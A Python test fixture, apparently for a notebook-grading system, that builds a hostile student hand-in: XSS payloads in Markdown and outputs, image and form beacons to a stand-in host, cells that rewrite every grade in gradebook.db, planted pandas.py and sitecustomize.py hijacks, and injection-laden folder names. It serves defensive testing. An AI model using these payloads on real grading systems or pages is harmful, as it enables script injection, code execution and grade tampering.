"""A hand-in by somebody who means harm, as a notebook and files: for tests of what tutors and learners then see.

Whatever of it works leaves a trace: `window.taken` in a page, a call to BEACON, or a file named RAN_* in the course.
"""

import json
import re
from html.parser import HTMLParser
from pathlib import Path

BEACON = "beacon.example"
RAN_CELL, RAN_PANDAS, RAN_SETTINGS = "ran-cell", "ran-pandas", "ran-settings"
TAKE = "window.taken=(window.taken||0)+1"

# Each works in a page that shows Markdown as it is, by itself or when somebody clicks.
TEXTS = (
    f"<script>{TAKE}</script>",
    f"<img src=x onerror=\"{TAKE}\">",
    f"<svg onload=\"{TAKE}\"><text>x</text></svg>",
    f"<details open ontoggle=\"{TAKE}\">x</details>",
    f"<input autofocus onfocus=\"{TAKE}\">",
    f"[click here](javascript:{TAKE})",
    f"<a id=lure href=\"javascript:{TAKE}\">click here</a>",
    "[a page](data:text/html,<script>opener.taken=1</script>)",
    f"$\\href{{javascript:{TAKE}}}{{formula}}$",
    f"$$\\href{{javascript:{TAKE}}}{{formula}}$$",
    f"![dot](http://{BEACON}/markdown.png)",
    f"![dot][b]\n\n[b]: http://{BEACON}/reference.png",
    f"<img src=\"http://{BEACON}/html.png\">",
    f"<link rel=stylesheet href=\"http://{BEACON}/a.css\">",
    f"<style>@import url(http://{BEACON}/b.css); body {{background: url(http://{BEACON}/c.png)}}</style>",
    f"<iframe src=\"http://{BEACON}/frame\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{TAKE.replace('window', 'parent')}</script>\"></iframe>",
    f"<object data=\"http://{BEACON}/object\"></object>",
    f"<form action=\"http://{BEACON}/form\"><button>Go on</button></form>",
    f"<meta http-equiv=refresh content=\"60;url=http://{BEACON}/meta\">",
    "</textarea></div></main></body><h1>The end of the page</h1>",
    "```mermaid\ngraph TD; A-->B; click A href \"javascript:1\"\n```",
    "{{ 7 * 7 }} {% raw %}",
)
MARK_ITSELF = f"""
import pathlib, sqlite3
root = next(folder for folder in pathlib.Path.cwd().parents if (folder / "gradebook.db").exists())
(root / "{RAN_CELL}").touch()
book = sqlite3.connect(root / "gradebook.db")
book.execute("update grade set manual_score = 99")
book.commit()
"""
PANDAS = f"""
import pathlib
for folder in pathlib.Path.cwd().parents:
    if (folder / "gradebook.db").exists():
        (folder / "{RAN_PANDAS}").touch()
"""
SETTINGS = f"import pathlib\npathlib.Path(__file__).with_name('{RAN_SETTINGS}').touch()\n"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{TAKE}'><script>{TAKE}</script></svg>"
# Names of folders in the exchange, as somebody who writes there by hand could make them.
NAMES = ("\"><img src=x onerror=alert(1)>", "<b>x", "x\";alert(1);\"", "back\\slash", "line\nbreak", "colour\x1b[31m",
         "alice*", "[ab]lice", "-rf", "=1+1", "@sum", "a" * 160, " alice", "alice ", "_", "\u202eecila")
# What nobody asked for: the name of a file, and of a folder in submitted/.
ODD = "<img src=x onerror=alert(1)>"
LIVE_TAGS = {"script", "img", "svg", "iframe", "object", "embed", "form", "input", "button", "base", "video", "audio",
             "math", "template", "noscript", "applet", "frame"}
WHERE = ("href", "src", "action", "data", "formaction", "xlink:href", "poster", "srcset", "background")


class Page(HTMLParser):
    """Notes all in a page that could do something."""

    def __init__(self, text: str):
        super().__init__()
        self.live, self.styles, self._in_style, self.text = [], "", False, ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self._in_style = tag == "style"
        self.live += [tag] if tag in LIVE_TAGS else []
        for name, value in attrs:
            led = name in WHERE and not re.match(r"https?://|mailto:|#", value or "")
            if name.startswith("on") or led or (name == "style" and "url(" in value):
                self.live.append(f"{tag} {name}={value}")

    def handle_data(self, data):
        if self._in_style:
            self.styles += data
        else:
            self.text += data

    def handle_endtag(self, tag):
        self._in_style = False


def notebook(released: dict, size: int = 0) -> dict:
    """Give the released notebook with all of it in: answers, new cells, outputs, attachments, metadata.

    `size` is how many bytes of output one cell carries.
    """
    nb = json.loads(json.dumps(released))
    answers = [cell for cell in nb["cells"] if cell["metadata"].get("nbgrader", {}).get("solution")]
    answers[0]["source"] = "\n\n".join(["words of a stranger", *TEXTS])
    answers[0]["attachments"] = {"a.svg": {"image/svg+xml": SVG}}
    answers[1] |= {"cell_type": "code", "source": MARK_ITSELF, "outputs": [], "execution_count": 1}
    nb["cells"] += [
        _code("run-me", MARK_ITSELF), _code("import-me", "import pandas"), _code("shown", "1", size),
        {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": TEXTS[0]},
        {"cell_type": "markdown", "id": "own", "metadata": {}, "source": "\n\n".join(TEXTS)},
        {"cell_type": "markdown", "id": "own-2", "metadata": {}, "source": "![a](attachment:a.svg)",
         "attachments": {"a.svg": {"image/svg+xml": SVG}}},
    ]
    nb["metadata"] |= {"title": TEXTS[0], "authors": [{"name": TEXTS[1]}]}
    return nb


def hand_in(inbound: Path, learner: str, task: str, released: dict, size: int = 0) -> Path:
    """Put it into the exchange as `submit` would name it, with files that nobody asked for, and return its folder."""
    folder = inbound / f"{learner}+{task}+2026-01-01 10:00:00.000000 UTC+abc"
    folder.mkdir()
    (folder / f"{task}.ipynb").write_text(json.dumps(notebook(released, size)), encoding="utf-8")
    (folder / f"{ODD}.ipynb").write_text(json.dumps(notebook(released)), encoding="utf-8")
    (folder / "pandas.py").write_text(PANDAS)
    (folder / "sitecustomize.py").write_text(PANDAS)
    (folder / "nbgrader_config.py").write_text(SETTINGS)
    (folder / "index.html").write_text(TEXTS[0])
    (folder / "more").mkdir()
    (folder / "more" / "pandas.py").write_text(PANDAS)
    return folder


def _code(name: str, source: str, size: int = 0) -> dict:
    shown = {"text/html": f"{TEXTS[0]}{TEXTS[1]}", "application/javascript": TAKE, "image/svg+xml": SVG,
             "text/markdown": TEXTS[0]}
    outputs = [{"output_type": "display_data", "data": shown, "metadata": {}},
               {"output_type": "stream", "name": "stdout", "text": "x" * size}]
    return {"cell_type": "code", "id": name, "metadata": {}, "source": source, "execution_count": 1,
            "outputs": outputs}
